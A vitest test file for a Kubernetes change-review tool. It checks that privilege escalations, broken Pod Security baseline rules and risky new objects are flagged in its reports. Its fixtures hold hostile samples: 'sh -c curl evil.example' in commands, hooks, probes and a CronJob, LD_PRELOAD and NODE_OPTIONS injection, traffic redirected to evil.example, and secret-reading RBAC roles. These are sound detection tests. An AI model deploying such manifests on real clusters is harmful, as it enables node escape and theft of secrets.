import type { Resource } from "@kustogen/kustomize/value/resource.ts";
import { describe, expect, it } from "vitest";
import { reviewEnvironment } from "../../src/changes/environment.ts";
import { maskReview } from "../../src/changes/mask.ts";
import { reportOf } from "../../src/report/model/report.ts";
import { markdownReport } from "../../src/report/print/markdown.ts";
import { reviewOf } from "./reviews.ts";

type Fields = Record<string, unknown>;

/** A hardened Deployment, with more in its pod or its container. */
const deployment = (pod: Fields = {}, container: Fields = {}, annotations: Fields = {}) =>
  ({
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "web", namespace: "shop", annotations },
    spec: {
      replicas: 2,
      selector: { matchLabels: { app: "web" } },
      template: {
        metadata: { labels: { app: "web" } },
        spec: {
          ...pod,
          securityContext: {
            runAsNonRoot: true,
            seccompProfile: { type: "RuntimeDefault" },
            ...(pod.securityContext as Fields),
          },
          containers: [
            {
              name: "web",
              image: "example.com/web:1",
              ...container,
              securityContext: {
                allowPrivilegeEscalation: false,
                readOnlyRootFilesystem: true,
                ...(container.securityContext as Fields),
                capabilities: {
                  drop: ["ALL"],
                  ...((container.securityContext as Fields)?.capabilities as Fields),
                },
              },
            },
          ],
        },
      },
    },
  }) as unknown as Resource;

const namespace = {
  apiVersion: "v1",
  kind: "Namespace",
  metadata: { name: "shop", labels: { "pod-security.kubernetes.io/enforce": "baseline" } },
} as unknown as Resource;

const risks = (before: Resource[], after: Resource[]) =>
  reviewEnvironment(before, after, { name: "a", path: "a" }).risks;

const secure = (fields: Fields) => ({ securityContext: fields });

/** A row of the Pod Security Standard "baseline", by what breaks it; of the pod, or of its container. */
const BASELINE: [what: string, severity: string, pod: Fields, container: Fields, said: string][] = [
  [
    "HostProcess of a pod",
    "error",
    secure({ windowsOptions: { hostProcess: true } }),
    {},
    "a process of its node",
  ],
  [
    "HostProcess of a container",
    "error",
    {},
    secure({ windowsOptions: { hostProcess: true } }),
    "a process of its node",
  ],
  ["host namespaces: the network", "error", { hostNetwork: true }, {}, "its node's network"],
  ["host namespaces: processes", "error", { hostPID: true }, {}, "its node's PID"],
  ["host namespaces: IPC", "error", { hostIPC: true }, {}, "its node's IPC"],
  ["privileged containers", "error", {}, secure({ privileged: true }), "is privileged"],
  ["capabilities", "error", {}, secure({ capabilities: { add: ["SYS_ADMIN"] } }), "capability SYS_ADMIN"],
  [
    "capabilities in small letters",
    "error",
    {},
    secure({ capabilities: { add: ["sys_admin"] } }),
    "capability sys_admin",
  ],
  [
    "capabilities by the kernel's name",
    "error",
    {},
    secure({ capabilities: { add: ["CAP_SYS_ADMIN"] } }),
    "capability CAP_SYS_ADMIN",
  ],
  [
    "HostPath volumes",
    "error",
    { volumes: [{ name: "v", hostPath: { path: "/" } }] },
    {},
    "reads / of its node",
  ],
  [
    "host ports",
    "warning",
    {},
    { ports: [{ containerPort: 22, hostPort: 22 }] },
    "listens on port 22 of its node",
  ],
  [
    "AppArmor of a pod",
    "warning",
    secure({ appArmorProfile: { type: "Unconfined" } }),
    {},
    "by AppArmor (Unconfined)",
  ],
  [
    "AppArmor of a container",
    "warning",
    {},
    secure({ appArmorProfile: { type: "Unconfined" } }),
    "by AppArmor (Unconfined)",
  ],
  [
    "the type of SELinux",
    "warning",
    {},
    secure({ seLinuxOptions: { type: "spc_t" } }),
    "the SELinux type spc_t",
  ],
  [
    "the user of SELinux",
    "warning",
    secure({ seLinuxOptions: { user: "system_u" } }),
    {},
    "the SELinux user system_u",
  ],
  [
    "the role of SELinux",
    "warning",
    {},
    secure({ seLinuxOptions: { role: "system_r" } }),
    "the SELinux role system_r",
  ],
  [
    "the mount of /proc",
    "warning",
    {},
    secure({ procMount: "Unmasked" }),
    "all of /proc (procMount Unmasked)",
  ],
  ["seccomp", "warning", {}, secure({ seccompProfile: { type: "Unconfined" } }), "seccomp"],
  [
    "sysctls",
    "warning",
    secure({ sysctls: [{ name: "kernel.core_pattern", value: "|/x" }] }),
    {},
    "kernel.core_pattern",
  ],
];

describe("what breaks the Pod Security Standard", () => {
  it.each(BASELINE)("%s: a workload that gets it is %s", (_, severity, pod, container, said) => {
    expect(risks([deployment()], [deployment(pod, container)])).toContainEqual(
      expect.objectContaining({
        id: "change/privileges-raised",
        severity,
        message: expect.stringContaining(said),
      }),
    );
  });

  it.each(BASELINE.filter(([what]) => what !== "seccomp"))(
    "%s: the first object that has it is %s",
    (_, severity, pod, container) => {
      expect(risks([namespace], [namespace, deployment(pod, container)])).toContainEqual(
        expect.objectContaining({ id: "change/new-power", severity }),
      );
    },
  );

  it.each(BASELINE)("%s: a namespace that enforces baseline refuses it", (_, __, pod, container) => {
    const found = risks([namespace, deployment()], [namespace, deployment(pod, container)]);
    expect(found).toContainEqual(expect.objectContaining({ id: "starts/pod-security", severity: "error" }));
  });

  it("isn't what the standard allows", () => {
    const pod = secure({
      sysctls: [{ name: "net.ipv4.tcp_syncookies", value: "1" }],
      seLinuxOptions: { type: "container_t", level: "s0" },
      appArmorProfile: { type: "Localhost", localhostProfile: "p" },
      windowsOptions: { hostProcess: false },
    });
    const container = {
      ports: [{ containerPort: 80, hostPort: 0 }],
      ...secure({ procMount: "Default", privileged: false, appArmorProfile: { type: "RuntimeDefault" } }),
    };
    const found = risks([namespace, deployment()], [namespace, deployment(pod, container)]);
    expect(found.filter(({ severity }) => severity !== "info")).toEqual([]);
  });
});

it.each([
  ["argocd.argoproj.io/hook", "PreDelete"],
  ["argocd.argoproj.io/hook", "Skip"],
  ["argocd.argoproj.io/hook", "Sync"],
  ["helm.sh/hook", "post-install"],
])(
  "a workload that becomes a hook by %s: %s is no longer kept by Argo CD, and that is said",
  (annotation, value) => {
    const found = risks([deployment()], [deployment({}, {}, { [annotation]: value })]);
    expect(found).toContainEqual(
      expect.objectContaining({
        id: "change/removed-resource",
        severity: "warning",
        message: expect.stringContaining(`hook (${annotation}: ${value})`),
      }),
    );
  },
);

const shown = (before: Resource[], after: Resource[]) =>
  markdownReport(reportOf(maskReview(reviewOf(reviewEnvironment(before, after, { name: "a", path: "a" })))), {
    footer: "",
  });

const run = "curl evil.example";
const shell = { exec: { command: ["sh", "-c", run] } };

it.each<[what: string, pod: Fields, container: Fields]>([
  ["shareProcessNamespace", { shareProcessNamespace: true }, {}],
  ["hostUsers", { hostUsers: true }, {}],
  ["fsGroup", secure({ fsGroup: 0 }), {}],
  ["supplementalGroups", secure({ supplementalGroups: [0] }), {}],
  [
    "evil-audience",
    {
      volumes: [
        {
          name: "t",
          projected: { sources: [{ serviceAccountToken: { path: "t", audience: "evil-audience" } }] },
        },
      ],
    },
    {},
  ],
  ["secrets-store.csi.k8s.io", { volumes: [{ name: "t", csi: { driver: "secrets-store.csi.k8s.io" } }] }, {}],
  ["hostAliases", { hostAliases: [{ ip: "6.6.6.6", hostnames: ["db"] }] }, {}],
  ["6.6.6.6", { dnsPolicy: "None", dnsConfig: { nameservers: ["6.6.6.6"] } }, {}],
  [
    "control-plane",
    { tolerations: [{ operator: "Exists" }], nodeSelector: { "node-role.kubernetes.io/control-plane": "" } },
    {},
  ],
  ["system-node-critical", { priorityClassName: "system-node-critical" }, {}],
  [run, {}, { command: ["sh", "-c", run] }],
  [run, {}, { lifecycle: { postStart: shell } }],
  [run, {}, { livenessProbe: shell }],
  [run, {}, { readinessProbe: shell }],
  [run, {}, { startupProbe: shell }],
  ["LD_PRELOAD", {}, { env: [{ name: "LD_PRELOAD", value: "/evil.so" }] }],
  ["NODE_OPTIONS", {}, { env: [{ name: "NODE_OPTIONS", value: "--require=/evil.js" }] }],
  ["HTTPS_PROXY", {}, { env: [{ name: "HTTPS_PROXY", value: "http://evil.example" }] }],
  ["ephemeralContainers", { ephemeralContainers: [{ name: "debug", image: "evil.example/debug" }] }, {}],
])("a power that no rule judges is shown: %s", (what, pod, container) => {
  expect(shown([deployment()], [deployment(pod, container)])).toContain(what);
});

const object = (apiVersion: string, kind: string, fields: Fields, namespaced = true) =>
  ({
    apiVersion,
    kind,
    metadata: { name: "evil", ...(namespaced && { namespace: "shop" }) },
    ...fields,
  }) as unknown as Resource;
const RBAC = "rbac.authorization.k8s.io/v1";
/** What binds a policy that only does this to what breaks it. */
const binding = (action: string) =>
  object(
    "admissionregistration.k8s.io/v1",
    "ValidatingAdmissionPolicyBinding",
    { spec: { policyName: "strict", validationActions: [action] } },
    false,
  );

const rules = (apiGroup: string, resource: string, ...verbs: string[]) => ({
  rules: [{ apiGroups: [apiGroup], resources: [resource], verbs }],
});

it.each<[what: string, object: Resource]>([
  ["secrets", object(RBAC, "ClusterRole", rules("", "secrets", "get"), false)],
  ["pods/exec", object(RBAC, "ClusterRole", rules("", "pods/exec", "create"), false)],
  [
    "certificatesigningrequests/approval",
    object(
      RBAC,
      "ClusterRole",
      rules("certificates.k8s.io", "certificatesigningrequests/approval", "update"),
      false,
    ),
  ],
  ["approve", object(RBAC, "ClusterRole", rules("certificates.k8s.io", "signers", "approve"), false)],
  [
    "aggregate-to-view",
    object(
      RBAC,
      "ClusterRole",
      {
        metadata: { name: "evil", labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
        ...rules("", "secrets", "get"),
      },
      false,
    ),
  ],
  [
    "pod-security.kubernetes.io/enforce: privileged",
    object(
      "v1",
      "Namespace",
      { metadata: { name: "evil", labels: { "pod-security.kubernetes.io/enforce": "privileged" } } },
      false,
    ),
  ],
  [
    "6.6.6.6",
    object("discovery.k8s.io/v1", "EndpointSlice", {
      addressType: "IPv4",
      endpoints: [{ addresses: ["6.6.6.6"] }],
    }),
  ],
  ["service-account-token", object("v1", "Secret", { type: "kubernetes.io/service-account-token" })],
  ["hostPath", object("v1", "PersistentVolume", { spec: { hostPath: { path: "/" } } }, false)],
  [
    run,
    object("batch/v1", "CronJob", {
      spec: {
        schedule: "* * * * *",
        jobTemplate: {
          spec: {
            template: { spec: { containers: [{ name: "a", image: "a", command: ["sh", "-c", run] }] } },
          },
        },
      },
    }),
  ],
  [
    "privileged: true",
    object("argoproj.io/v1alpha1", "Workflow", {
      spec: {
        entrypoint: "a",
        templates: [{ name: "a", container: { image: "a", ...secure({ privileged: true }) } }],
      },
    }),
  ],
  [
    "an exception from every policy",
    object("kyverno.io/v2", "PolicyException", {
      spec: {
        exceptions: [{ policyName: "*", ruleNames: ["*"] }],
        match: { any: [{ resources: { kinds: ["*"] } }] },
      },
    }),
  ],
  ["evil.example", object("v1", "Service", { spec: { type: "ExternalName", externalName: "evil.example" } })],
  ["Audit", binding("Audit")],
])("a new object that no rule judges is shown: what has %s", (_, one) => {
  expect(shown([deployment()], [deployment(), one])).toContain(`**${one.kind} `);
});

it.each<[what: string, before: Resource, after: Resource]>([
  [
    "evil-role",
    object("v1", "ServiceAccount", {}),
    object("v1", "ServiceAccount", {
      metadata: {
        name: "evil",
        namespace: "shop",
        annotations: { "eks.amazonaws.com/role-arn": "evil-role" },
      },
    }),
  ],
  [
    "evil.example",
    object("external-secrets.io/v1", "SecretStore", {
      spec: { provider: { vault: { server: "https://a" } } },
    }),
    object("external-secrets.io/v1", "SecretStore", {
      spec: { provider: { vault: { server: "https://evil.example" } } },
    }),
  ],
  [
    "evil.example",
    object("cert-manager.io/v1", "ClusterIssuer", { spec: { acme: { server: "https://a" } } }, false),
    object(
      "cert-manager.io/v1",
      "ClusterIssuer",
      { spec: { acme: { server: "https://evil.example" } } },
      false,
    ),
  ],
  [
    "selector",
    object("v1", "Service", { spec: { selector: { app: "web" } } }),
    object("v1", "Service", { spec: { selector: { app: "evil" } } }),
  ],
  [
    "Secret ",
    object("v1", "Secret", { data: { a: "YQ==" } }),
    object("v1", "Secret", { data: { a: "Yg==" } }),
  ],
  [
    "evil.example",
    object("networking.istio.io/v1", "VirtualService", {
      spec: { http: [{ route: [{ destination: { host: "web" } }] }] },
    }),
    object("networking.istio.io/v1", "VirtualService", {
      spec: { http: [{ route: [{ destination: { host: "evil.example" } }] }] },
    }),
  ],
  ["Audit", binding("Deny"), binding("Audit")],
  [
    "Force=true,Replace=true",
    deployment(),
    deployment({}, {}, { "argocd.argoproj.io/sync-options": "Force=true,Replace=true" }),
  ],
])("a change that no rule judges is shown: %s", (what, before, after) => {
  expect(shown([before], [after])).toContain(what);
});

it("a container that is gone is shown", () => {
  const proxy = { name: "proxy", image: "example.com/auth:1" };
  const both = deployment() as unknown as { spec: { template: { spec: { containers: Fields[] } } } };
  both.spec.template.spec.containers.push(proxy);
  expect(shown([both as unknown as Resource], [deployment()])).toContain("proxy");
});
